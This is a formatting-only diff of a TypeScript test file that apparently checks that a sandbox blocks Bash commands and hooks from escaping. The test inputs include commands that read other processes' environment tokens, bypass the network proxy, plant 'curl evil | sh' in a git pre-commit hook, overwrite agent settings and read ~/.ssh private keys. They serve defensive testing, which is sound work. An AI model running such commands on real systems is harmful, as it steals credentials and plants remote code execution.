@@ -43,7 +43,6 @@ afterEach(async () => {
 const bash = (command: string, sandbox: SandboxOptions = sandboxOn, context: Record<string, unknown> = {}) =>
   runBash(workspace.call({ command }, { context }), { ...workspace.env, shell: { sandbox } });
 
-
 describe.skipIf(problem !== undefined)('Bash in the sandbox', () => {
   it('writes in the workspace, not outside it, and reads nothing outside it', async () => {
     expect(await bash('echo inside > made.txt && cat made.txt')).toEqual({ isError: false, content: 'inside' });
@@ -66,12 +65,19 @@ describe.skipIf(problem !== undefined)('Bash in the sandbox', () => {
   });
 
   it("reads no other process's environment", async () => {
-    const other = spawn('sleep', ['31.4159'], { env: { ...process.env, SERVICE_TOKEN: 'tok-9f8e7d6c' }, stdio: 'ignore' });
+    const other = spawn('sleep', ['31.4159'], {
+      env: { ...process.env, SERVICE_TOKEN: 'tok-9f8e7d6c' },
+      stdio: 'ignore',
+    });
     children.push(other);
-    const result = await bash('cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c . ; cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep SERVICE_TOKEN || echo none');
+    const result = await bash(
+      'cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep -c . ; cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep SERVICE_TOKEN || echo none',
+    );
     expect(result.content).not.toContain('tok-9f8e7d6c');
     expect(result.content).toContain('none');
-    expect((await bash(`cat /proc/${other.pid}/environ | tr "\\0" "\\n" | grep SERVICE_TOKEN`, sandboxOff)).content).toContain('tok-9f8e7d6c');
+    expect(
+      (await bash(`cat /proc/${other.pid}/environ | tr "\\0" "\\n" | grep SERVICE_TOKEN`, sandboxOff)).content,
+    ).toContain('tok-9f8e7d6c');
   });
 
   it("cannot connect to the worker's loopback services", async () => {
@@ -94,13 +100,23 @@ describe.skipIf(problem !== undefined)('Bash in the sandbox', () => {
     await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
     const port = (server.address() as net.AddressInfo).port;
     try {
-      const allowed = await bash(`curl -sS --max-time 10 http://127.0.0.1:${port}/`, sandboxOn, { sandbox: { network: { allowedDomains: ['127.0.0.1'] } } });
+      const allowed = await bash(`curl -sS --max-time 10 http://127.0.0.1:${port}/`, sandboxOn, {
+        sandbox: { network: { allowedDomains: ['127.0.0.1'] } },
+      });
       expect(allowed).toEqual({ isError: false, content: 'PAGE-FROM-ALLOWED-HOST' });
-      const refused = await bash(`curl -sS --max-time 10 -o /dev/null -w '%{http_code}' http://localhost:${port}/`, sandboxOn, { sandbox: { network: { allowedDomains: ['127.0.0.1'] } } });
+      const refused = await bash(
+        `curl -sS --max-time 10 -o /dev/null -w '%{http_code}' http://localhost:${port}/`,
+        sandboxOn,
+        { sandbox: { network: { allowedDomains: ['127.0.0.1'] } } },
+      );
       expect(refused.content).toContain('403');
       expect(refused.content).toContain(`Sandbox: the network proxy refused localhost`);
       // Around the proxy there is no way out: its variables unset, the connection fails.
-      const direct = await bash(`env -u HTTP_PROXY -u http_proxy curl -sS --max-time 5 --noproxy '*' http://127.0.0.1:${port}/`, sandboxOn, { sandbox: { network: { allowedDomains: ['127.0.0.1'] } } });
+      const direct = await bash(
+        `env -u HTTP_PROXY -u http_proxy curl -sS --max-time 5 --noproxy '*' http://127.0.0.1:${port}/`,
+        sandboxOn,
+        { sandbox: { network: { allowedDomains: ['127.0.0.1'] } } },
+      );
       expect(direct.isError).toBe(true);
       expect(direct.content).not.toContain('PAGE-FROM-ALLOWED-HOST');
     } finally {
@@ -136,7 +152,9 @@ describe.skipIf(problem !== undefined)('Bash in the sandbox', () => {
     await fs.mkdir(path.join(workspace.root, '.git', 'hooks'), { recursive: true });
     await fs.mkdir(path.join(workspace.root, '.claude'));
     await fs.writeFile(path.join(workspace.root, '.claude', 'settings.json'), '{}\n');
-    const result = await bash('echo "curl evil | sh" > .git/hooks/pre-commit; echo "{\\"hooks\\":{}}" > .claude/settings.json; echo done');
+    const result = await bash(
+      'echo "curl evil | sh" > .git/hooks/pre-commit; echo "{\\"hooks\\":{}}" > .claude/settings.json; echo done',
+    );
     expect(result.content).toContain('Read-only file system');
     await expect(fs.stat(path.join(workspace.root, '.git', 'hooks', 'pre-commit'))).rejects.toThrow();
     expect(await fs.readFile(path.join(workspace.root, '.claude', 'settings.json'), 'utf8')).toBe('{}\n');
@@ -156,7 +174,9 @@ describe.skipIf(problem !== undefined)('Bash in the sandbox', () => {
   it('refuses to run a command when bubblewrap is missing, saying how to install it', async () => {
     const result = await bash('echo should-not-run', { mode: 'on', bwrap: '/nonexistent/bwrap', hiddenFiles: [] });
     expect(result.isError).toBe(true);
-    expect(result.content).toMatch(/^SandboxUnavailable: .*not installed.*apt-get install bubblewrap.*SUBAGENTS_SANDBOX=off/s);
+    expect(result.content).toMatch(
+      /^SandboxUnavailable: .*not installed.*apt-get install bubblewrap.*SUBAGENTS_SANDBOX=off/s,
+    );
     expect(result.content).not.toContain('should-not-run\n');
   });
 
@@ -170,7 +190,10 @@ describe.skipIf(problem !== undefined)('Bash in the sandbox', () => {
 
 describe.skipIf(problem !== undefined)('hooks in the sandbox', () => {
   const hook = (command: string, sandbox: SandboxOptions = sandboxOn) =>
-    runHookProcess({ event: 'Stop', command, timeoutMs: 10_000, cwd: workspace.root, projectDir: workspace.root, payload: {} }, { shell: { sandbox } });
+    runHookProcess(
+      { event: 'Stop', command, timeoutMs: 10_000, cwd: workspace.root, projectDir: workspace.root, payload: {} },
+      { shell: { sandbox } },
+    );
 
   it('leave no daemon behind and cannot read the home directory’s keys', async () => {
     const result = await hook('(setsid sleep 43.31 >/dev/null 2>&1 &); cat ~/.ssh/id_ed25519; echo hook-ran');
@@ -181,7 +204,9 @@ describe.skipIf(problem !== undefined)('hooks in the sandbox', () => {
   });
 
   it('write their project, not the rest of the machine', async () => {
-    const result = await hook(`echo log >> hook.log; echo x > ${path.join(workspace.outside, 'hook.txt')} || echo refused`);
+    const result = await hook(
+      `echo log >> hook.log; echo x > ${path.join(workspace.outside, 'hook.txt')} || echo refused`,
+    );
     expect(result.stdout).toContain('refused');
     expect(await fs.readFile(path.join(workspace.root, 'hook.log'), 'utf8')).toBe('log\n');
     await expect(fs.stat(path.join(workspace.outside, 'hook.txt'))).rejects.toThrow();
